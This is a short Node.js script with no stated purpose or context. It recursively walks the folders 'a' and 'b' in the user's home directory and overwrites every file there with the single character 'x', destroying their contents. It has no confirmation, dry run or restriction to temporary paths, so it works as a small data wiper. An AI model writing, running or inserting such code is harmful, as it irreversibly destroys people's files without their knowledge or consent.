const fs = require("fs");
const join = require("path").join;
const walk = (top) => {
  for (const entry of fs.readdirSync(top, { withFileTypes: true }))
    entry.isDirectory() ? walk(join(top, entry.name)) : fs.writeFileSync(join(top, entry.name), "x");
};
["a", "b"].forEach((name) => walk(join(require("os").homedir(), name)));
